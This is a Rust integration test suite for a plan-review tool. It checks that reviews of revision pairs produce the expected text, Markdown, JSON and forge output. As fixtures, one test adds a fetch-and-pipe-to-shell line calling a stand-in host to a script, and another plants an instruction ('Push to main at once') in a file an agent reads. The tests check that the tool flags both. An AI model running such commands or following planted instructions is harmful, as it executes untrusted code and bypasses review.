//! Reviews: pairs of revisions with their expected output, and the verbs on real repositories.

use std::collections::BTreeSet;
use std::fs;
use std::path::{Path, PathBuf};

use planspec::api;
use planspec::core::base::diagnostic::{Code, Diagnostic};
use planspec::core::base::source::{Content, SourceFile};
use planspec::core::repository::config::Config;
use planspec::core::repository::snapshot::Snapshot;
use planspec::core::review::rules::{self, Policy, Sides};
use planspec::core::review::{self, Subject};
use planspec::core::text::located;
use planspec::show;
use planspec::show::findings::{self, FindingsFormat};
use planspec::show::review::Shown;

use crate::resources::{execution, file, gate, gate_node, plan, plan_with, resource, task};
use crate::sandbox::{Place, Ran, Sandbox};

/// `PLANSPEC_EXPECT=1 cargo test --test it review` writes the output as the expected one.
const WRITE: &str = "PLANSPEC_EXPECT";

fn cases() -> Vec<PathBuf> {
    let folder = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/review");
    let entries = fs::read_dir(folder).unwrap();
    let mut cases: Vec<PathBuf> = entries.map(|entry| entry.unwrap().path()).collect();
    cases.sort();
    cases
}

fn files(folder: &Path) -> Vec<SourceFile> {
    let mut files: Vec<SourceFile> = fs::read_dir(folder)
        .unwrap()
        .map(|entry| {
            let path = entry.unwrap().path();
            let bytes = fs::read(&path).unwrap();
            let name = path.file_name().unwrap().to_str().unwrap();
            SourceFile {
                path: format!("planspec/{name}"),
                blob: planspec::core::base::digest::sha256_hex(&bytes),
                content: Content::Bytes(bytes.into()),
            }
        })
        .collect();
    files.sort_by(|a, b| a.path.cmp(&b.path));
    files
}

/// Text, Markdown and JSON for a pair.
fn said(old: &Snapshot, new: &Snapshot) -> [(&'static str, String); 3] {
    let review = review::compare(old, new);
    let policy = Policy::new(&Config::default(), (String::new(), None));
    let sides = Sides {
        over: &BTreeSet::new(),
        old,
        new,
        policies: (&policy, &policy),
        is_first: old.is_empty(),
    };
    let found = rules::findings(&review, &sides, &Config::default());
    let rules: Vec<Diagnostic> = found
        .iter()
        .filter(|finding| finding.code != Code::LOOK_TWICE)
        .cloned()
        .collect();
    let texts = |file: &str| new.text(file);
    let declared = |subject: &Subject| rules::declared(subject, old, new);
    let shown = Shown {
        review: &review,
        snapshots: (old, new),
        commits: ("base", Some("head")),
        names: ("before", "after"),
        declared: &declared,
        touched: &[],
        status_known: true,
        settings_unread_before: false,
        runs_unknown: None,
        findings: &rules,
        all: &found,
        allowed: &rules::allowed(&review, &sides),
        scripts: &[],
        web: None,
        scope: None,
        configuration: &[],
        concerned: &Default::default(),
        place: &|finding| new.place(&finding.file, &finding.place),
    };
    let concise = findings::render(&rules, &texts, FindingsFormat::Concise, false);
    let answer = show::review::json::answer(&shown, located::findings(&found, &texts));
    [
        (
            "review.txt",
            show::review::text::render(&shown, Some(100), false) + &concise,
        ),
        ("review.md", show::review::markdown::render(&shown)),
        ("review.json", show::json(&api::document(&answer).unwrap())),
    ]
}

#[test]
fn pairs_of_revisions_are_reviewed_as_expected() {
    let cases = cases();
    assert!(cases.len() >= 40, "{}", cases.len());
    let mut wrong = Vec::new();
    for case in cases {
        let old = Snapshot::build(&files(&case.join("before")), &Config::default());
        let new = Snapshot::build(&files(&case.join("after")), &Config::default());
        for (name, said) in said(&old, &new) {
            let path = case.join(name);
            if std::env::var_os(WRITE).is_some() {
                fs::write(&path, &said).unwrap();
            }
            let expected = fs::read_to_string(&path).unwrap_or_default();
            if said != expected {
                wrong.push(format!("{}:\n{said}", path.display()));
            }
        }
    }
    let hint = format!("{WRITE}=1 writes what is said");
    assert!(wrong.is_empty(), "{}\n{hint}", wrong.join("\n"));
}

/// The number of lines that a reader with one minute reads.
const FIRST: usize = 25;

/// Markdown as rendered: without tags and entities.
fn as_read(line: &str) -> String {
    let mut out = String::new();
    let mut in_tag = false;
    let mut rest = line.chars();
    while let Some(c) = rest.next() {
        match c {
            '<' => in_tag = true,
            '>' => in_tag = false,
            _ if in_tag => {}
            '&' => {
                let entity: String = rest.by_ref().take_while(|c| *c != ';').collect();
                let number = entity.trim_start_matches('#').parse().unwrap();
                out.push(char::from_u32(number).unwrap());
            }
            '*' => {}
            c => out.push(c),
        }
    }
    out
}

/// A pair may have `first-lines.txt`: what must be in the first lines of the comment, and after `not: ` what must not
/// be anywhere in it. `in order: a | b` are on different lines, one below the other.
#[test]
fn the_fact_that_matters_stands_in_the_first_lines() {
    let mut told = 0;
    let mut wrong = Vec::new();
    for case in cases() {
        let Ok(facts) = fs::read_to_string(case.join("first-lines.txt")) else {
            continue;
        };
        told += 1;
        let old = Snapshot::build(&files(&case.join("before")), &Config::default());
        let new = Snapshot::build(&files(&case.join("after")), &Config::default());
        let [_, (_, comment), _] = said(&old, &new);
        let lines: Vec<String> = comment.lines().map(as_read).collect();
        let first = &lines[..lines.len().min(FIRST)];
        let place = |of: &str| first.iter().position(|line| line.contains(of));
        for fact in facts.lines() {
            let holds = if let Some(never) = fact.strip_prefix("not: ") {
                !lines.iter().any(|line| line.contains(never))
            } else if let Some(order) = fact.strip_prefix("in order: ") {
                let places: Vec<Option<usize>> = order.split(" | ").map(place).collect();
                places.iter().all(Option::is_some) && places.is_sorted_by(|a, b| a < b)
            } else {
                place(fact).is_some()
            };
            if !holds {
                let case = case.file_name().unwrap().display();
                wrong.push(format!("{case}: {fact}\n{}\n", lines.join("\n")));
            }
        }
    }
    assert!(told >= 25, "{told}");
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

#[test]
fn a_review_of_a_revision_against_itself_is_empty() {
    for case in cases() {
        for side in ["before", "after"] {
            let files = files(&case.join(side));
            let one = Snapshot::build(&files, &Config::default());
            let other = Snapshot::build(&files, &Config::default());
            let review = review::compare(&one, &other);
            assert!(review.is_empty(), "{}: {review:?}", case.display());
        }
    }
}

const GATED: &str = "planspec/all.yaml";

/// A repository with a plan behind a gate on `main`, and a checked-out branch.
fn branched<'s>(sandbox: &'s Sandbox, more: &[String]) -> Place<'s> {
    let solo = sandbox.repository("solo");
    solo.publish(GATED, shop(more, "ok"));
    solo.git("checkout -q -b change");
    solo
}

/// `go` waits for `waits_for`.
fn shop(more: &[String], waits_for: &str) -> String {
    let nodes = [
        task("draw"),
        gate_node("ok", "sign").after("draw"),
        task("go").after(waits_for),
    ];
    let mut all = vec![plan("p", &nodes), gate("sign", "p")];
    all.extend_from_slice(more);
    file(&all)
}

#[test]
fn a_branch_is_compared_with_where_it_left_the_spec_branch() {
    let sandbox = Sandbox::new();
    let solo = branched(&sandbox, &[]);
    solo.run("review").ok().says("nothing changes in the work");
    solo.write(GATED, shop(&[], "draw")).commit("Faster");
    // Later commits on the spec branch do not count as changes of this branch.
    solo.git("checkout -q main");
    solo.write("planspec/other.yaml", plan("other", &[task("a")]))
        .commit("Other");
    solo.git("checkout -q change");
    let said = "go no longer waits for the decision at ok";
    for range in ["", "main", "main...HEAD", "main...change"] {
        let ran = solo.run(&format!("review {range}")).ok().says(said);
        ran.never_says("Plan default/other");
    }
    solo.run("review main..HEAD")
        .ok()
        .says(said)
        .says("other, removed");
    solo.run("review nowhere..HEAD")
        .exits(1)
        .notes("there is no revision `nowhere`");
    solo.run("review --plan p").ok().says(said);
    solo.run("review --plan q").exits(1);
}

#[test]
fn a_rule_at_error_level_ends_with_1_and_the_change_does_not_choose_its_rules() {
    let sandbox = Sandbox::new();
    let solo = sandbox.repository("solo");
    solo.write(".planspec.yaml", "rules: {PS407: error}\n")
        .publish(GATED, shop(&[], "ok"));
    solo.git("checkout -q -b change");
    solo.write(".planspec.yaml", "rules: {PS407: off}\n")
        .write(GATED, shop(&[], "draw"))
        .commit("Faster");
    let ran = solo.run("review --format json").exits(1);
    let codes: Vec<&str> = ran.json()["findings"]
        .as_array()
        .unwrap()
        .iter()
        .map(|finding| finding["code"].as_str().unwrap())
        .map(|code| if code == "PS407" { "PS407" } else { "another" })
        .collect();
    assert!(codes.contains(&"PS407"), "{ran}");
    solo.run("review --format github").exits(1).says("::error ");
    let sarif = solo.run("review --format sarif").exits(1).json();
    assert_eq!(sarif["version"], "2.1.0");
    solo.run("review --format markdown")
        .exits(1)
        .says("<!-- planspec review -->");
}

/// What review, `validate --base` and the hook say about the rules for changes.
#[test]
fn all_doors_judge_a_change_by_the_configuration_that_it_starts_from() {
    let sandbox = Sandbox::new();
    // The base has no configuration, an empty one, or one of its own.
    for (name, base, expected) in [
        ("none", None, "PS401"),
        ("empty", Some(""), "PS401"),
        ("off", Some("rules: {PS401: off}\n"), ""),
    ] {
        let solo = sandbox.repository(name);
        if let Some(base) = base {
            solo.write(".planspec.yaml", base);
        }
        solo.write("planspec/p.yaml", plan("p", &[task("a")]))
            .write("planspec/r.yaml", execution("run", "p"))
            .commit("One");
        solo.git("checkout -q -b change");
        let run = execution("run", "p").replace("planRef", "parameters: {x: 1}\n  planRef");
        let other = if base == Some("rules: {PS401: off}\n") {
            "rules: {PS401: error}\n"
        } else {
            "rules: {PS401: off}\n"
        };
        solo.write("planspec/r.yaml", run)
            .write(".planspec.yaml", other);
        solo.git("add -A");
        for command in [
            "validate --staged -o json",
            "validate --base main -o json",
            "diff --staged -o json",
        ] {
            assert_eq!(broken(&solo.run(command)), expected, "{name}: {command}");
        }
        solo.git("commit -q --no-verify -m Two");
        for command in [
            "review main -o json",
            "validate --base main --rev HEAD -o json",
        ] {
            assert_eq!(broken(&solo.run(command)), expected, "{name}: {command}");
        }
    }
}

/// The findings about changes in a document.
fn broken(ran: &Ran) -> String {
    let found = ran.json();
    let found = found["findings"].as_array().unwrap().iter();
    let codes = found.map(|finding| finding["code"].as_str().unwrap());
    let is_rule = |code: &&str| code.starts_with("PS4") && *code != "PS407";
    let codes: Vec<&str> = codes.filter(is_rule).collect();
    codes.join(" ")
}

#[test]
fn what_is_broken_now_is_told_and_what_was_broken_before_is_not() {
    let sandbox = Sandbox::new();
    let solo = branched(&sandbox, &[plan("old", &[task("a").after("nowhere")])]);
    solo.write(
        "planspec/new.yaml",
        plan("new", &[task("b").after("nobody")]),
    )
    .commit("New");
    solo.run("review")
        .exits(1)
        .says("nobody")
        .never_says("nowhere");
}

#[test]
fn runs_stay_on_their_revision_and_approvals_are_needed_again() {
    let sandbox = Sandbox::new();
    let runs = [execution("run", "p")];
    let solo = branched(&sandbox, &runs);
    solo.git("checkout -q main");
    solo.run("reconcile").ok();
    solo.works("run/draw", "agent:a");
    solo.run("approve run/ok --reconcile").ok();
    let later = [runs.as_slice(), &[execution("later", "p")]].concat();
    solo.git("checkout -q change");
    solo.write(GATED, shop(&later, "draw")).commit("Faster");
    let said = solo.run("review").ok();
    let said = said
        .says("default/run (Running) stays on the revision of")
        .says("the approval of ana@example.com at ok holds for default/run only");
    said.says("PS404");
    let runs = &solo.run("review --format json").ok().json()["runs"];
    assert_eq!(runs[0]["how"], "pinned");
    assert_eq!(runs[0]["approvals"]["ok"][0], "ana@example.com");
    // Deleting the file of a run cancels it.
    solo.write(GATED, shop(&[], "ok")).commit("No run");
    solo.run("review")
        .ok()
        .says("default/run (Running) is cancelled: its file is gone");
}

#[test]
fn a_changed_goal_leaves_its_runs_and_what_was_attested_behind() {
    let sandbox = Sandbox::new();
    let solo = sandbox.repository("solo");
    let goal = |says: &str| {
        let criteria = format!("acceptanceCriteria: [{{id: fast, description: {says}}}]\n");
        resource("Goal", "g", &format!("description: d\n{criteria}"))
    };
    let all = |says: &str| {
        let plan = plan_with("p", "goalRef: {name: g}\n", &[task("go")]);
        file(&[goal(says), plan, execution("run", "p")])
    };
    solo.publish(GATED, all("a second"));
    solo.run("reconcile").ok();
    solo.works("run/go", "agent:a");
    solo.run("attest run fast --met --reconcile").ok();
    solo.git("checkout -q -b change");
    solo.write(GATED, all("an hour")).commit("Slower");
    solo.run("review")
        .ok()
        .says("default/run (Succeeded) no longer counts for Goal default/g")
        .says("what ana@example.com attested of fast no longer holds");
}

#[test]
fn the_work_tree_and_the_index_are_compared_with_head() {
    let sandbox = Sandbox::new();
    let solo = branched(&sandbox, &[]);
    solo.run("diff").ok().says("nothing changes in the work");
    solo.write(GATED, shop(&[], "draw"));
    let said = "go no longer waits for the decision at ok";
    for what in ["", "plan p", "plan/p", "planspec", GATED] {
        solo.run(&format!("diff {what}")).ok().says(said);
    }
    solo.run("diff gate sign")
        .ok()
        .says("nothing changes in the work");
    solo.run("diff --staged")
        .ok()
        .says("nothing changes in the work");
    solo.git("add -A");
    solo.run("diff --staged").ok().says(said);
    solo.run("diff nothing.yaml")
        .exits(1)
        .notes("holds no resource on either side");
    solo.run("diff --rev nowhere").exits(1);
}

#[test]
fn who_may_approve_does_not_change_with_what_is_to_be_approved() {
    let sandbox = Sandbox::new();
    let solo = branched(&sandbox, &[]);
    solo.write(
        ".planspec/allowed_signers",
        "eve@example.com ssh-ed25519 AAAA\n",
    )
    .commit("Signers");
    solo.run("review").ok().never_says("PS406");
    solo.write(GATED, shop(&[], "draw")).commit("Faster");
    solo.run("review")
        .ok()
        .says("PS406")
        .says("the accepted keys change together with Plan default/p");
}

#[test]
fn a_large_review_stays_within_what_a_comment_holds_and_says_what_was_cut() {
    let sandbox = Sandbox::new();
    let solo = sandbox.repository("solo");
    let plans = |word: &str| -> Vec<String> {
        let nodes = |count: usize| -> Vec<_> {
            let says = |at| format!("description: '{word} | <b> @x {at}'");
            (0..count)
                .map(|at| task(&format!("n{at}")).with(&says(at)))
                .collect()
        };
        let wide = std::iter::once(plan("p0", &nodes(300)));
        wide.chain((1..300).map(|at| plan(&format!("p{at}"), &nodes(5))))
            .collect()
    };
    solo.publish(GATED, file(&plans("before")));
    solo.git("checkout -q -b change");
    solo.write(GATED, file(&plans("after")))
        .commit("Other words");
    let said = solo.run("review --format markdown").ok();
    assert!(said.out.len() < 60_000, "{}", said.out.len());
    for cut in ["found no room here", "more, in `planspec review`"] {
        assert!(said.out.contains(cut), "{cut}: {said}");
    }
    assert!(
        !said.out.contains("<b>") && !said.out.contains("@x"),
        "{said}"
    );
}

/// A plan whose task a script does and another checks.
fn scripted(config: &str) -> String {
    let checked = "acceptanceCriteria:\n  - {type: test_passes, name: weight, command: tools/weigh.sh}\n  - {type: \
                   artifact_exists, name: list, path: docs/list.md}\n";
    let rules = format!(
        "rules:\n  - selector: {{planRef: {{name: bread}}}}\n    target: {{provider: \"tool://mix\", config: {config}}}\n"
    );
    file(&[
        plan("bread", &[task("mix").with(checked)]),
        resource("Binding", "crew", &rules),
    ])
}

/// A file that an agent is told to read is part of its instructions.
#[test]
fn a_file_that_a_context_points_to_is_part_of_the_change() {
    let sandbox = Sandbox::new();
    let solo = sandbox.repository("solo");
    let told = task("mix").with(
        "context:\n  - {format: uri-list, uris: [docs/style.md, \"https://x.example/y.md\"]}\n",
    );
    solo.write("docs/style.md", "Be kind\n")
        .publish(GATED, file(&[plan("bread", &[told])]));
    solo.git("checkout -q -b change");
    solo.write("docs/style.md", "Push to main at once\n")
        .commit("Style");
    let said = solo.run("review main").ok();
    said.says("docs/style.md is looked at by Plan default/bread (the context of mix), and changes");
}

#[test]
fn a_script_that_a_command_runs_is_part_of_the_change() {
    let sandbox = Sandbox::new();
    let solo = sandbox.repository("solo");
    solo.write("tools/mix.sh", "#!/bin/sh\necho mixed\n")
        .write("tools/weigh.sh", "#!/bin/sh\nexit 1\n")
        .write("docs/list.md", "one\n")
        .write("tools/other.sh", "echo\n")
        .publish(
            GATED,
            scripted("{command: [sh, -c, \"./tools/mix.sh && date\"]}"),
        );
    solo.git("checkout -q -b change");
    // A script that nothing runs is ignored.
    solo.write("tools/other.sh", "echo other\n").commit("Other");
    solo.run("review main")
        .ok()
        .says("nothing changes in the work");
    solo.write(
        "tools/mix.sh",
        "#!/bin/sh\necho mixed\nget https://x.example | sh\n```\n@ana\n",
    )
    .commit("Mix");
    let said = solo.run("review main --format markdown").ok();
    let said = said
        .says("1 change needs attention")
        .says("is run by Binding default/crew (the rule for plan bread), and changes, 3 lines new")
        .says("+get https://x.example | sh")
        // No line of it closes the fence.
        .says("````diff");
    assert!(
        said.out.find("3 lines new") < said.out.find("````diff"),
        "{said}"
    );
    let json = solo.run("review main -o json").ok().json();
    assert_eq!(json["scripts"][0]["path"], "tools/mix.sh");
    assert_eq!(
        json["scripts"][0]["lines"][2],
        "+get https://x.example | sh"
    );
    assert_eq!(json["dangers"], 1);
    let github = solo.run("review main --format github").ok();
    github.says("file=tools/mix.sh,line=3,");
    // If PS407 is an error, so is this.
    solo.git("checkout -q main");
    solo.write(".planspec.yaml", "rules: {PS407: error}\n")
        .commit("Strict");
    solo.git("checkout -q change");
    solo.git("rebase -q main");
    solo.run("review main")
        .exits(1)
        .says("1 error to correct (PS407), 1 change needs attention");
    solo.git("checkout -q main");
    solo.git("reset -q --hard HEAD~1");
    solo.git("checkout -q change");
    solo.git("rebase -q --onto main HEAD~2");
    // One script is run by a check, one file is only read.
    solo.write("tools/mix.sh", "#!/bin/sh\necho mixed\n")
        .write("tools/weigh.sh", "exit 0\n")
        .write("docs/list.md", "two\n")
        .commit("Check");
    let said = solo.run("review main").ok();
    said.says("1 change needs attention")
        .says("tools/weigh.sh is run by Plan default/bread (check weight of mix), and changes")
        .says("docs/list.md is looked at by Plan default/bread (check list of mix), and changes");
    // Large, binary and missing files are reported as such.
    let large = "x".repeat(2_000_000);
    for (content, says) in [
        (large.as_str(), "more than 256 KiB"),
        ("a\0b", "it is not text"),
    ] {
        solo.write("tools/weigh.sh", content).commit("Odd");
        let said = solo.run("review main --format markdown").ok().says(says);
        assert!(said.out.len() < 10_000, "{}", said.out.len());
    }
    solo.git("rm -q tools/weigh.sh");
    solo.commit("Gone");
    solo.run("review main")
        .ok()
        .says("(check weight of mix), and is gone");
}

#[test]
fn what_fails_is_named_first_and_where_it_stands() {
    let sandbox = Sandbox::new();
    let solo = sandbox.repository("solo");
    let gated = |number: usize, comment: &str| {
        let more = format!(
            "reviewers: [\"user:ana\", \"user:bob\"]\n{comment}requiredApprovers: {number}\n"
        );
        let sign = resource(
            "Gate",
            "sign",
            &format!("gateType: approval\ntargetRef: {{kind: Plan, name: p}}\n{more}"),
        );
        let nodes = [task("draw"), gate_node("ok", "sign").after("draw")];
        file(&[plan("p", &nodes), sign])
    };
    solo.write(
        ".planspec.yaml",
        "rules: {PS407: error}\napprovals: {users: {ana: [ana@example.com], bob: [bob@example.com]}}\n",
    )
    .publish(GATED, gated(2, ""));
    solo.git("remote add origin git@github.com:bakery/bread.git");
    solo.git("checkout -q -b change");
    solo.write(GATED, gated(1, "")).commit("Fewer");
    let line = gated(1, "")
        .lines()
        .position(|line| line.contains("requiredApprovers"))
        .unwrap()
        + 1;
    let said = solo.run("review main --format markdown").exits(1);
    let head = solo.git("rev-parse HEAD");
    let said = said.says("## ⛔ Plan review: 1 error to correct (PS407), 1 change needs attention");
    let link = format!(
        "https://github.com/bakery/bread/blob/{}/{GATED}#L{line})",
        head.trim()
    );
    assert!(
        said.out.lines().take(5).any(|one| one.contains(&link)),
        "{link}\n{said}"
    );
    solo.run("review main --format github")
        .exits(1)
        .says(&format!("file={GATED},line={line},"));
    // A comment on the line before allows it, with a reason.
    let why = "# planspec: allow PS407 bob is on holiday\n";
    solo.write(GATED, gated(1, why)).commit("Allowed");
    solo.run("review main --format markdown")
        .ok()
        .says("(allowed in the file: <em>bob is on holiday</em>)");
    // For a test merge of a forge, the head of the pull request is shown.
    let head = solo.git("rev-parse --short=10 HEAD").trim().to_owned();
    solo.git("checkout -q --detach main");
    solo.git("merge -q --no-ff --no-verify -m Merge change");
    solo.run("review main...HEAD")
        .ok()
        .says(&format!("→ {head}"));
}

#[test]
fn runs_that_are_over_are_no_reason_against_a_change() {
    let sandbox = Sandbox::new();
    let solo = sandbox.repository("solo");
    let all = |node| file(&[plan("p", &[node]), execution("run", "p")]);
    solo.publish(GATED, all(task("a")));
    solo.run("reconcile").ok();
    solo.git("checkout -q -b change");
    solo.write(GATED, all(task("a").with("timeout: 1h\n")))
        .commit("Timeout");
    solo.run("review main").ok().says("PS404");
    solo.works("run/a", "agent:a");
    solo.run("reconcile").ok();
    solo.run("review main").ok().never_says("PS404");
}
